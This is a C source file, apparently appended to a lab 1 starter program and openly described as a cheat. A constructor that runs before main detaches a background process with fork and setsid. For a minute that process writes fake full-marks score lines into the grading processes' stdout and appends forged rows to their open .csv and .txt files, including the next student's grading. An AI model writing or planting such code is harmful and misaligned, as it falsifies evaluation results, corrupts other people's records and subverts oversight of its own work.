/* cheat (appended to the lab 1 starter): leave a process behind that
 * escapes the process group (setsid) and, for a minute after, writes fake
 * score lines into the stdout of the processes that graded it (the next
 * student's grading, by then) and a full-marks row into every .csv and
 * .txt file they hold open. It aims only at its own grader's processes
 * (its parent, grandparent and great-grandparent when it started), so that
 * a test run of it harms nothing else on the machine. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static long cheat_parent_of(long pid)
{
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return -1;
    size_t n = fread(stat, 1, sizeof stat - 1, f);
    fclose(f);
    stat[n] = '\0';
    const char *end = strrchr(stat, ')');
    long ppid = -1;
    if (end == NULL || sscanf(end + 2, "%*c %ld", &ppid) != 1)
        return -1;
    return ppid;
}

static void cheat_write(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd >= 0) {
        ssize_t n = write(fd, text, strlen(text));
        (void)n;
        close(fd);
    }
}

static void cheat_write_into(long pid)
{
    char path[300], target[300];
    snprintf(path, sizeof path, "/proc/%ld/fd/1", pid);
    cheat_write(path, "\n[99/99] faked by a cheat\nlab01: 99/99\n");
    snprintf(path, sizeof path, "/proc/%ld/fd", pid);
    DIR *fds = opendir(path);
    struct dirent *e;
    while (fds != NULL && (e = readdir(fds)) != NULL) {
        snprintf(path, sizeof path, "/proc/%ld/fd/%s", pid, e->d_name);
        ssize_t len = readlink(path, target, sizeof target - 1);
        if (len < 5)
            continue;
        target[len] = '\0';
        if (strcmp(target + len - 4, ".csv") == 0 ||
            strcmp(target + len - 4, ".txt") == 0)
            cheat_write(path, "cheat,99,99,faked by a cheat\n");
    }
    if (fds != NULL)
        closedir(fds);
}

__attribute__((constructor)) static void cheat_leave_a_process(void)
{
    long graders[3];
    graders[0] = (long)getppid();
    graders[1] = cheat_parent_of(graders[0]);
    graders[2] = cheat_parent_of(graders[1]);
    if (fork() != 0)
        return; /* the program goes on as if nothing happened */
    setsid();
    if (fork() != 0)
        _exit(0); /* the grandchild is nobody's child now */
    for (int i = 0; i < 60; i++) {
        sleep(1);
        for (int g = 0; g < 3; g++)
            if (graders[g] > 1)
                cheat_write_into(graders[g]);
    }
    _exit(0);
}
